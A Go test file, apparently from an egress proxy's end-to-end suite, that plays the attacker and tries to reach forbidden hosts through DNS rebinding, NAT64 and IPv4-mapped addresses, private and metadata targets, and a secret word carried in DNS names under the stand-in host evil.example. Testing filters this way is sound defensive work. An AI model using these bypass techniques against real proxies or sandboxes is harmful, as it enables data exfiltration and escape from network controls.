//go:build linux

package main

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"net/netip"
	"strings"
)

// The names are the attacker's, and so is the server that answers for them: what
// each stands for is in its first label (test/e2e/nameserver_test.go).

// tries is how often a name is used whose answers change.
const tries = 4

func nameRebinding(t targets, word string) error { return useName(t, "rebind", word) }
func nameMapped(t targets, word string) error    { return useName(t, "mapped", word) }
func nameNAT64(t targets, word string) error     { return useName(t, "nat64", word) }
func namePrivate(t targets, word string) error   { return useName(t, "private", word) }
func nameAlias(t targets, word string) error     { return useName(t, "alias", word) }
func nameFallback(t targets, word string) error  { return useName(t, "fallback", word) }
func nameMetadata(t targets, word string) error  { return useName(t, "metadata", word) }

// useName says a word to whatever a name leads to, in tunnels and in plain
// requests.
func useName(t targets, kind, word string) error {
	host := kind + "-" + t.Run + "." + t.Zone
	authority := net.JoinHostPort(host, t.NamesPort)
	var err error
	for range tries {
		if proxy() == "" {
			err = goWhereItLeads(t, host, word)
			continue
		}
		err = through(authority, "", word)
		if failure := get(&http.Transport{Proxy: http.ProxyFromEnvironment, DisableKeepAlives: true}, "http://"+authority+"/"+word); failure != nil {
			err = failure
		}
	}
	return err
}

// goWhereItLeads is what a proxy does that looks at no address: it resolves, and
// dials the last answer.
func goWhereItLeads(t targets, host, word string) error {
	resolver := &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, network, _ string) (net.Conn, error) {
		return new(net.Dialer).DialContext(ctx, network, t.NameServer)
	}}
	addrs, err := resolver.LookupNetIP(context.Background(), "ip", host+".")
	if err != nil {
		return err
	}
	addr := addrs[len(addrs)-1]
	if nat64 := netip.MustParsePrefix("64:ff9b::/96"); nat64.Contains(addr) { // as that network's router does
		b := addr.As16()
		addr = netip.AddrFrom4([4]byte(b[12:]))
	}
	return tell("tcp", net.JoinHostPort(addr.String(), t.NamesPort), word)
}

// dnsGateway asks the machine that the proxy runs on.
func dnsGateway(_ targets, word string) error {
	host, _, err := net.SplitHostPort(proxy())
	if err != nil {
		return err
	}
	return askDNS(host, "dns-gateway", word)
}

// dnsProxy has the proxy resolve a name that no rule allows, in each way that
// there is to ask it.
func dnsProxy(_ targets, word string) error {
	host := strings.TrimSuffix(word, ".") + ".evil.example"
	if _, err := tunnel(host+":443", "127.0.0.1:1"); err != nil {
		return get(&http.Transport{Proxy: http.ProxyFromEnvironment}, "http://"+host+"/")
	}
	return fmt.Errorf("a tunnel, and yet no connection")
}
